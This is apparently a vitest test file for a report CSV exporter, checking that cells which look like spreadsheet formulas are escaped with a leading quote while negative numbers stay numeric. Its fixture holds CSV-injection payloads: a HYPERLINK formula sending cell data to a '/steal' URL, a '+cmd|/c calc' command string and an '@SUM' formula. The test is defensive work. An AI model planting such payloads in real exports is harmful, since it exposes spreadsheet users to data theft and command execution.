import { describe, expect, it } from 'vitest';
import { buildDocument } from '../document/tree';
import { lxFigure, lxParagraph, lxRoot, lxText } from '../document/lexical';
import { fixtureInput, FIXTURE_FIGURES } from './testing/fixtures';
import { parse } from 'csv-parse/sync';
import { buildCsv, CSV_COLUMNS } from './csv';

/** RFC 4180 rows, read by csv-parse, independently of the writer. */
function parseCsv(text: string): string[][] {
  return parse(text, { relaxColumnCount: false }) as string[][];
}

describe('the report CSV and spreadsheet formulas', () => {
  it('writes text that starts like a formula as text, and numbers (negative ones too) as numbers', () => {
    const input = fixtureInput('internal');
    const evil = {
      ...FIXTURE_FIGURES.f1!,
      slug: '@SUM(1+1)',
      name: '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click")',
      result: { ...FIXTURE_FIGURES.f1!.result, figureId: 'evil', value: -0.05, formatted: '-5%', numerator: -50 },
    };
    input.figures = (ref) => (ref.figureId === 'evil' ? evil : FIXTURE_FIGURES[ref.figureId]);
    input.sections = [{ id: 's1', title: '+cmd|/c calc', content: JSON.stringify(lxRoot([lxParagraph([lxText('Change: '), lxFigure('evil')])])) }];
    // The internal edition, which has every column (the slug, the SQL); its first line names the edition.
    const rows = parseCsv(buildCsv(buildDocument(input)).replace(/^\uFEFF/, '').replace(/^[^\r\n]*\r\n/, ''));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]![i]!]));
    expect(row.name).toBe(`'=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click")`);
    expect(row.section).toBe("'+cmd|/c calc");
    expect(row.slug).toBe("'@SUM(1+1)");
    expect(row.formatted).toBe("'-5%");
    // Numeric columns keep negative numbers as numbers a spreadsheet can add up.
    expect(row.value).toBe('-0.05');
    expect(row.numerator).toBe('-50');
    const numeric = new Set(['value', 'numerator', 'denominator', 'rows_read']);
    for (const [c, cell] of Object.entries(row)) if (!numeric.has(c)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
